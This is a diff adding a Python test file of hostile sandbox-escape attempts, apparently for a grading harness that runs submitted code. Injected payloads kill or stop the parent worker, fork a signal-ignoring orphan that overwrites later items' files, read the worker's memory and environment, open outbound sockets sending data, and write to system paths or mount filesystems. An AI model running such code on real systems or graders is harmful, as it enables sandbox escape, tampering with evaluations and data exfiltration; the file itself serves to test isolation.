@@ -1,0 +1,187 @@
+"""Attacks on the walls: the worker, the processes to come, the network, the file system."""
+
+from __future__ import annotations
+
+from grader.model import Outcome
+from tests.hostile.attack import Attack
+
+
+def _in_forward(body: str) -> str:
+    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
+    return f"""
+import os, signal
+
+def forward(self, x):
+{lines}
+    return x
+
+SoftMaxLayer.forward = forward
+"""
+
+
+ESCAPING = (
+    Attack(
+        name="worker-killed",
+        tries="The worker that would report on the process is killed.",
+        code=_in_forward("os.kill(os.getppid(), signal.SIGKILL)\nsignal.pause()"),
+        outcome=Outcome.CRASHED,
+        canary="relaunched",
+    ),
+    Attack(
+        name="everything-killed",
+        tries="Every process in sight is killed.",
+        code=_in_forward("os.kill(-1, signal.SIGKILL)\nos._exit(0)"),
+        outcome=Outcome.CRASHED,
+        canary="relaunched",
+    ),
+    Attack(
+        name="worker-stopped",
+        tries="The worker is stopped, so that it neither reports nor ends.",
+        code=_in_forward("os.kill(os.getppid(), signal.SIGSTOP)\nos._exit(0)"),
+        outcome=Outcome.CRASHED,
+        limits={"start_seconds": 4.0, "lost_processes": 1},
+        canary="relaunched",
+    ),
+    Attack(
+        name="self-stopped",
+        tries="The process stops itself.",
+        code=_in_forward(
+            'print("CANARY: stops", flush=True)\nos.kill(os.getpid(), signal.SIGSTOP)'
+        ),
+        outcome=Outcome.TIMEOUT,
+        limits={"case_seconds": 1.0, "lost_processes": 1},
+        harmless=True,
+    ),
+    Attack(
+        name="descriptors-closed",
+        tries="Every file descriptor is closed, the connection among them.",
+        code=_in_forward('print("CANARY: closes all", flush=True)\nos.closerange(0, 256)'),
+        outcome=Outcome.CRASHED,
+        harmless=True,
+    ),
+    Attack(
+        name="orphan",
+        tries="A process in a session of its own waits for its item to end, then spoils the files "
+        "of the next one and speaks in its place.",
+        code="""
+import os, signal, time
+
+item = os.getpid()
+if os.fork() == 0:
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
+        try:
+            signal.signal(number, signal.SIG_IGN)
+        except OSError:
+            continue
+    print("CANARY: an orphan waits", flush=True)
+    while os.path.exists(f"/proc/{item}"):
+        time.sleep(0.001)
+    while True:
+        for name in os.listdir("layers"):
+            with open(f"layers/{name}", "w") as file:
+                file.write("print('GAINED: an orphan outlived its item', flush=True)")
+else:
+    # Until the orphan has said so.
+    time.sleep(0.1)
+""",
+    ),
+    Attack(
+        name="worker-taken-over",
+        tries="The worker's memory and open files, to live on in it from item to item.",
+        code="""
+import ctypes, os
+
+worker = os.getppid()
+libc = ctypes.CDLL(None, use_errno=True)
+pidfd = os.pidfd_open(worker)
+steps = {
+    "memory": lambda: open(f"/proc/{worker}/mem", "r+b", buffering=0),
+    "files": lambda: os.listdir(f"/proc/{worker}/fd"),
+    "folder": lambda: os.listdir(f"/proc/{worker}/root"),
+    "environment": lambda: open(f"/proc/{worker}/environ").read(),
+}
+for name, step in steps.items():
+    try:
+        step()
+    except OSError:
+        continue
+    print("GAINED:", name, "of the worker's", flush=True)
+PTRACE_SEIZE, PIDFD_GETFD = 0x4206, 438
+if libc.ptrace(PTRACE_SEIZE, worker, 0, 0) == 0:
+    print("GAINED: traces the worker", flush=True)
+if libc.syscall(PIDFD_GETFD, pidfd, 3, 0) >= 0:
+    print("GAINED: a file descriptor of the worker's", flush=True)
+print("CANARY: reached for the worker", flush=True)
+""",
+    ),
+    Attack(
+        name="network",
+        tries="A way out: TCP and UDP over IPv4 and IPv6, a name looked up, a raw socket.",
+        code="""
+import socket
+
+def tcp(family, address):
+    with socket.socket(family, socket.SOCK_STREAM) as out:
+        out.settimeout(1)
+        out.connect((address, 53))
+
+def udp(family, address):
+    with socket.socket(family, socket.SOCK_DGRAM) as out:
+        out.sendto(b"hidden values", (address, 53))
+
+steps = {
+    "tcp": lambda: tcp(socket.AF_INET, "1.1.1.1"),
+    "udp": lambda: udp(socket.AF_INET, "1.1.1.1"),
+    "tcp6": lambda: tcp(socket.AF_INET6, "2606:4700:4700::1111"),
+    "udp6": lambda: udp(socket.AF_INET6, "2606:4700:4700::1111"),
+    "the bridge's host": lambda: tcp(socket.AF_INET, "172.17.0.1"),
+    "dns": lambda: socket.getaddrinfo("example.org", 80),
+    "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
+    "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
+}
+for name, step in steps.items():
+    try:
+        step()
+    except OSError:
+        continue
+    print("GAINED:", name, flush=True)
+print("CANARY: tried", len(steps), "ways out", flush=True)
+""",
+    ),
+    Attack(
+        name="writes-outside",
+        tries="Any file outside its own two folders: made, changed, or mounted over.",
+        code="""
+import ctypes, os, sys
+
+tried = 0
+for folder in ("/", "/usr", "/usr/bin", "/etc", "/var", "/opt", "/opt/worker", "/runtime",
+               "/runtime/worker/grader", "/bridge", "/dev", "/dev/shm", "/proc/sys/kernel", "/home",
+               "/root", "/run", "/srv", "/mnt", "/sys/fs/cgroup", "/sys/fs/cgroup/memory",
+               os.path.dirname(np.__file__), os.path.dirname(os.__file__), sys.prefix):
+    tried += 1
+    try:
+        open(os.path.join(folder, "written"), "w").close()
+    except OSError:
+        continue
+    print("GAINED: wrote to", folder, flush=True)
+for path in (np.__file__, os.__file__, "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger",
+             sys.modules["grader.bridge.frames"].__file__):
+    tried += 1
+    try:
+        open(path, "a").close()
+    except OSError:
+        continue
+    print("GAINED: changed", path, flush=True)
+libc = ctypes.CDLL(None)
+if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.unshare(0x10000000) == 0:
+    print("GAINED: mounts", flush=True)
+if os.getuid() == 0 or os.geteuid() == 0:
+    print("GAINED: is root", flush=True)
+print("CANARY: tried", tried, "files", flush=True)
+""",
+    ),
+)
